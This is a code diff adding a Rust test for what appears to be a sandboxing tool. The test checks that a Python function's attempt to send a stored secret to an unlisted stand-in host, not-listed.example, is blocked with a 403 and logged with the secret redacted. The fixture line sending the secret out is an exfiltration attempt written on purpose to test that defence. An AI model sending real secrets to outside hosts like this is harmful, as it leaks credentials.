@@ -163,3 +163,26 @@ fn a_run_is_named_by_any_beginning_or_end_that_fits_no_other() {
     hint: write at least 4 of its hexadecimal digits; `selfmade runs list` shows the last eight
     ");
 }
+
+#[test]
+fn what_it_asked_of_the_network_is_shown_without_secrets() {
+    let place = Place::new();
+    place.run_with(&["secret", "set", "key"], b"hunter2-hunter2");
+    place.add(
+        "import selfmade\n\n@selfmade.function(network=['example.com'], secrets=['key'])\ndef fetch():\n    \
+         import urllib.error, urllib.request\n    from selfmade import secrets\n    try:\n        \
+         urllib.request.urlopen(f'http://not-listed.example/bot{secrets.key}/send?key={secrets.key}')\n    \
+         except urllib.error.HTTPError as error:\n        return error.code\n",
+    );
+    let id = place.run_id(&["fetch"]);
+    let record = place.json(&["runs", "show", &id]);
+    assert_eq!(record["output"], 403, "{record:#}");
+    let request = &record["requests"][0];
+    assert_eq!(
+        (&request["host"], &request["path"]),
+        (&"not-listed.example".into(), &"/bot[secret key]/send".into())
+    );
+    assert_eq!(request["rule"], "not-listed");
+    let shown = place.data(&["runs", "show", &id]);
+    assert!(shown.contains("GET http://not-listed.example:80/bot[secret key]/send"), "{shown}");
+}
